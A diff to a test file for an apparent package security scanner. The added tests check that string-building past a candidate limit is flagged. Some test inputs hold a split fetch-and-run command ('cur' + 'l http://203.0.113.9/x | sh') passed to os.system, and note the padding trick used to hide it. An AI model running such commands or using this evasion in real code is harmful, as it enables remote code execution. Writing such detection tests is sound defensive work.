@@ -32,7 +32,7 @@ def texts(source: str) -> list[str]:
     surveyed = survey(tree, 100, 100_000)
     assert isinstance(surveyed, Survey)
     flow = Flow(surveyed.bindings, surveyed.nodes, surveyed.scopes)
-    return [text for text, _, _ in computed_strings(flow, surveyed.nodes, None)]
+    return [text for text, _, _ in computed_strings(flow, surveyed.nodes, None)[0]]
 
 
 @pytest.mark.parametrize(
@@ -106,3 +106,30 @@ def test_the_candidates_per_file_are_bounded() -> None:
     found = texts(pad + "late = 'cront' + 'ab -l'\n")
     assert len(found) == MAX_CANDIDATES
     assert "crontab -l" not in found
+
+
+def test_a_split_indicator_past_the_bound_is_reported_not_silently_dropped() -> None:
+    # Attack (attack5): 2,000 harmless concatenations, then the indicator split in two,
+    # beside what runs it: the bound hid it and the file came out clean.
+    pad = "".join(f"v{i} = 'text{i}' + 'b'\n" for i in range(MAX_CANDIDATES))
+    source = "import os\n" + pad + "os.system('cur' + 'l http://203.0.113.9/x | sh')\n"
+    findings = scan_source(source, "pkg/__init__.py", mode=ScanMode.PACKAGE)
+    [bounded] = [f for f in findings if f.rule_id == "CPL-SCAN-002"]
+    assert bounded.line == MAX_CANDIDATES + 2
+    assert f"more than {MAX_CANDIDATES} expressions build text" in bounded.message
+    assert bounded.severity is Severity.DANGER  # it holds what the threat rules look for
+
+
+def test_a_data_table_past_the_bound_is_a_warning() -> None:
+    pad = "".join(f"v{i} = 'text{i}' + 'b'\n" for i in range(MAX_CANDIDATES + 5))
+    findings = scan_source(pad, "pkg/table.py", mode=ScanMode.PACKAGE)
+    assert [(f.rule_id, f.severity) for f in findings] == [("CPL-SCAN-002", Severity.WARNING)]
+
+
+def test_a_command_glued_past_the_bound_beside_an_earlier_sink_is_danger() -> None:
+    pad = "".join(f"v{i} = 'text{i}' + 'b'\n" for i in range(MAX_CANDIDATES))
+    source = "import os\n\ndef run(c):\n    os.system(c)\n" + pad
+    source += "run('cur' + 'l http://203.0.113.9/x | sh')\n"
+    findings = scan_source(source, "pkg/__init__.py", mode=ScanMode.PACKAGE)
+    [bounded] = [f for f in findings if f.rule_id == "CPL-SCAN-002"]
+    assert bounded.severity is Severity.DANGER
